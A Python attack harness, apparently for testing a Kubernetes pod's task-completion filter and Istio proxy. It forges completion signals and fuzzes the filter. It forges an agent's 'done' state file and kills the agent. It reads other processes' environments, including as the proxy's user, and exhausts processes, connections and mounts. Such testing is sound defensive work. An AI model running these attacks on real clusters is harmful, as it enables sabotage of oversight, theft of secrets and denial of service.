"""What a process of the pod can try: each word is an attack.

usage: intruder.py signal ACTION        completes the task for the filter before it has ended
       intruder.py absurd               sends the filter oversized, deep and senseless requests
       intruder.py forward ADDRESS...   asks the signal listener to pass a request on to these addresses
       intruder.py ask ADDRESS HOST...  asks a server for each of these host names
       intruder.py end ADDRESS          tells the application of another pod that it may leave
       intruder.py through ADDRESS      sends a completion through the open proxy at this address, then ends that one
       intruder.py done                 writes into the agent's state folder that everything is done, and kills the agent
       intruder.py look WORD            tells which processes it sees, and whose environment has this word; root also as the
                                        proxy's user
       intruder.py processes N          has so many processes, for ever
       intruder.py connections N        has so many connections to the signal listener, for ever
       intruder.py mounts N -- COMMAND  has so many mounts, then becomes the command
       intruder.py name NAME -- COMMAND runs the command under a process that calls itself NAME

Each writes lines of JSON to stdout. `processes`, `connections` and `mounts` make the file /scratch/ready when they have all.
"""

import contextlib
import ctypes
import http.client
import json
import os
import resource
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

_SIGNAL = ("127.0.0.1", 15190)
_PROC = Path("/proc")
_READY = Path("/scratch/ready")
# Where the agent keeps its state, in its own container.
_STATE = "run/exeunt"
_AGENT = "exeunt-agent"
_PROXY_UID = 1337
_POLL_S = 0.1
_TIMEOUT_S = 60.0
# Longer than Envoy tries to connect to an endpoint, three times.
_ANSWER_S = 45.0
_CLONE_NEWNS, _CLONE_NEWUSER, _MS_BIND = 0x20000, 0x10000000, 4096
_PR_SET_NAME = 15
# The longest name of a file, and how many of them one path can have.
_LONGEST, _DEPTH = 250, 14
_libc = ctypes.CDLL(None, use_errno=True)


def say(**event: object) -> None:
    """Writes one event to stdout."""
    print(json.dumps(event), flush=True)


def exchange(head: bytes, *, timeout: float = 5.0) -> bytes:
    """Sends bytes to the signal listener; the answer until the end or a silence."""
    answer = b""
    with contextlib.suppress(OSError), socket.create_connection(_SIGNAL, timeout=timeout) as connection:
        # A server that refuses the head does not read the rest.
        with contextlib.suppress(OSError):
            connection.sendall(head)
        while piece := connection.recv(65_536):
            answer += piece
    return answer


def post(headers: dict[str, str], body: bytes = b"", path: str = "/v1/complete") -> bytes:
    """The bytes of a POST to the filter."""
    lines = [f"POST {path} HTTP/1.1", "host: x", *(f"{name}: {value}" for name, value in headers.items())]
    head = "\r\n".join([*lines, f"content-length: {len(body)}", "connection: close", "", ""])
    # A surrogate stands for a byte that is no UTF-8.
    return head.encode(errors="surrogateescape") + body


def status_of(answer: bytes) -> int:
    """The status of an HTTP answer; 0 for anything else."""
    words = answer.split(b" ", 2)
    return int(words[1]) if words[0].startswith(b"HTTP/") and len(words) > 1 and words[1].isdigit() else 0


def complete(action: str) -> None:
    """Tells the filter that the task has ended."""
    completion = json.dumps({"container": "x", "action": action})
    say(signalled=status_of(exchange(post({"x-exeunt": "1", "x-exeunt-completion": completion}))), action=action)


def absurd_requests() -> dict[str, bytes]:
    """Requests that must change nothing."""
    good = {"x-exeunt": "1"}
    deep, wide = b"[" * 4000, json.dumps({f"field{number}": number for number in range(200)}).encode()
    return {
        "1 MB of a body": post(good, b"a" * 1_000_000),
        "a header of 50 kB": post(good | {"x-exeunt-completion": "a" * 50_000}),
        "5,000 headers": post(good | {f"x-{number}": "1" for number in range(5000)}),
        "nested 4,000 times": post(good, deep),
        "200 unknown fields": post(good, wide),
        "a length beyond every integer": b"POST /v1/complete HTTP/1.1\r\nhost: x\r\nx-exeunt: 1\r\ncontent-length: "
        + b"9" * 40
        + b"\r\n\r\n",
        "a path of 100 kB": post(good, path="/" + "a" * 100_000),
        "invalid UTF-8": post(good | {"x-exeunt-completion": "\udcff\udcfe{"}),
        "numbers that no field can have": post(good, b'{"container":"base","exitCode":1e999,"action":"quit"}'),
        "zeros": bytes(100_000),
    }


def absurd() -> None:
    """Sends every absurd request."""
    for name, sent in absurd_requests().items():
        say(absurd=name, status=status_of(exchange(sent)))


def forward(addresses: list[str]) -> None:
    """Uses the signal listener as a forward proxy."""
    for address in addresses:
        absolute = f"GET http://{address}/ HTTP/1.1\r\nhost: {address}\r\nconnection: close\r\n\r\n"
        tunnel = (
            f"CONNECT {address} HTTP/1.1\r\nhost: {address}\r\n\r\nGET / HTTP/1.1\r\nhost: {address}\r\nconnection: close\r\n\r\n"
        )
        for form, sent in (("absolute form", absolute), ("CONNECT", tunnel)):
            answer = exchange(sent.encode())
            say(forward=address, form=form, status=status_of(answer), by_filter=b"x-exeunt" in answer.lower())


def ask(address: str, hosts: list[str]) -> None:
    """Asks a server for each of these host names."""
    for host in hosts:
        connection = http.client.HTTPConnection(address, timeout=_ANSWER_S)
        try:
            connection.request("POST", "/v1/complete", headers={"host": host})
            say(host=host, status=connection.getresponse().status)
        except (OSError, http.client.HTTPException) as error:
            say(host=host, status=0, error=str(error))
        finally:
            connection.close()


def through(address: str) -> None:
    """Uses an application of another pod that passes on what it is asked to."""
    headers = {"x-exeunt": "1", "x-exeunt-completion": json.dumps({"container": "x", "action": "drain"})}
    post_to(address, f"/pass/{_SIGNAL[0]}:{_SIGNAL[1]}/v1/complete", headers)
    post_to(address, "/end", {})


def post_to(address: str, path: str, headers: dict[str, str]) -> None:
    """Sends a POST to an application of another pod."""
    connection = http.client.HTTPConnection(address, timeout=_ANSWER_S)
    connection.request("POST", path, headers=headers)
    answer = connection.getresponse()
    say(posted=path, status=answer.status, answer=answer.read().decode("ascii", "backslashreplace"))
    connection.close()


def pids() -> list[int]:
    """The processes that this one sees."""
    return sorted(int(path.name) for path in _PROC.iterdir() if path.name.isdigit())


def agents() -> list[int]:
    """The agent's processes."""
    found = []
    for pid in pids():
        with contextlib.suppress(OSError):
            if (_PROC / str(pid) / "comm").read_text().strip() == _AGENT:
                found.append(pid)
    return found


def forge_done() -> None:
    """Needs the agent's uid and a shared process namespace."""
    deadline = time.monotonic() + _TIMEOUT_S
    while time.monotonic() < deadline:
        for pid in agents():
            folder = _PROC / str(pid) / "root" / _STATE
            # The agent makes the first file when it begins.
            if not list(folder.iterdir()):
                continue
            (folder / "done").write_text("\ndone\n")
            say(forged=sorted(path.name for path in folder.iterdir()))
            os.kill(pid, signal.SIGKILL)
            return
        time.sleep(_POLL_S)
    raise SystemExit("no agent was found")


def readable(word: str) -> list[str]:
    """The names of the processes whose environment has this word."""
    found = []
    for pid in pids():
        with contextlib.suppress(OSError):
            if pid != os.getpid() and word.encode() in (_PROC / str(pid) / "environ").read_bytes():
                found.append((_PROC / str(pid) / "comm").read_text().strip())
    return sorted(found)


def look(word: str) -> None:
    """Tells what it can read of the others."""
    names = []
    for pid in pids():
        with contextlib.suppress(OSError):
            names.append((_PROC / str(pid) / "comm").read_text().strip())
    say(sees=sorted(names), reads=readable(word), uid=os.getuid())
    if os.getuid() == 0:
        # As the proxy's user, a process may read the proxy: its environment, its files, its memory.
        os.setgid(_PROXY_UID)
        os.setuid(_PROXY_UID)
        # A process that has changed its user is not dumpable, and must start again to be a process of that user alone.
        word = "ISTIO_META"
        os.execv(sys.executable, [sys.executable, __file__, "look-again", word])


def processes(number: int) -> None:
    """Starts that many processes that sleep."""
    # Not `sleep`: the smallest process is one that shares its memory with this one.
    started = 0
    # A cluster can limit the processes of a pod.
    with contextlib.suppress(BlockingIOError):
        while started < number:
            if os.fork() == 0:
                while True:
                    signal.pause()
            started += 1
    _READY.touch()
    say(processes=started)
    signal.pause()


def connections(number: int) -> None:
    """Opens that many connections to the signal listener and keeps them."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    held = []
    with contextlib.suppress(OSError):
        while len(held) < number:
            held.append(socket.create_connection(_SIGNAL, timeout=_TIMEOUT_S))
    _READY.touch()
    say(connections=len(held))
    signal.pause()


def mounts(number: int) -> None:
    """In a user namespace of its own it mounts so many folders, each with a very long path, on themselves."""
    uid, gid = os.getuid(), os.getgid()
    try:
        _check(_libc.unshare(_CLONE_NEWUSER | _CLONE_NEWNS), "unshare")
    except OSError as error:
        say(refused=f"no user namespace: {os.strerror(error.errno)}")
        return
    (_PROC / "self" / "setgroups").write_text("deny")
    (_PROC / "self" / "uid_map").write_text(f"{uid} {uid} 1")
    (_PROC / "self" / "gid_map").write_text(f"{gid} {gid} 1")
    # It goes with the namespace, so nobody has to remove the folders.
    _check(_libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None), "mount")
    before = Path.cwd()
    os.chdir("/tmp")  # noqa: S108 (it was made just now)
    for _ in range(_DEPTH):
        Path("m" * _LONGEST).mkdir()
        os.chdir("m" * _LONGEST)
    for place in range(number):
        Path(str(place)).mkdir()
        name = str(place).encode()
        _check(_libc.mount(name, name, None, _MS_BIND, None), "mount")
    os.chdir(before)
    # To read it takes seconds on a busy node, and what follows must see the proxy before the task ends it.
    say(mounts=number, mountinfo=len((_PROC / "self" / "mountinfo").read_bytes()))
    _READY.touch()


def _check(result: int, what: str) -> None:
    if result != 0:
        raise OSError(ctypes.get_errno(), what)


def under(name: str, command: list[str]) -> int:
    """Runs the command under a process with this name, in the kernel's table and on its command line."""
    if "PYTHONHOME" not in os.environ:
        # Python looks for its library beside the program of its first word, so it is told where it is.
        environment = os.environ | {"PYTHONHOME": sys.base_prefix}
        os.execve(sys.executable, [name, __file__, *sys.argv[1:]], environment)
    _check(_libc.prctl(_PR_SET_NAME, name.encode(), 0, 0, 0), "prctl")
    say(named=Path("/proc/self/comm").read_text(), words=Path("/proc/self/cmdline").read_text().split("\0")[0])
    return subprocess.run(command, check=False).returncode


def main() -> int:
    """Does what the words say."""
    words = sys.argv[1:]
    split = words.index("--") if "--" in words else len(words)
    (what, *given), command = words[:split], words[split + 1 :]
    if what == "signal":
        complete(given[0])
    elif what == "absurd":
        absurd()
    elif what == "forward":
        forward(given)
    elif what == "ask":
        ask(given[0], given[1:])
    elif what == "end":
        post_to(given[0], "/end", {})
    elif what == "through":
        through(given[0])
    elif what == "done":
        forge_done()
    elif what == "look":
        look(given[0])
    elif what == "look-again":
        say(reads_as_proxy=readable(given[0]), uid=os.getuid())
    elif what == "processes":
        processes(int(given[0]))
    elif what == "connections":
        connections(int(given[0]))
    elif what == "mounts":
        mounts(int(given[0]))
        os.execvp(command[0], command)
    elif what == "name":
        return under(given[0], command)
    else:
        raise SystemExit(f"{what} is not known")
    return 0


if __name__ == "__main__":
    sys.exit(main())
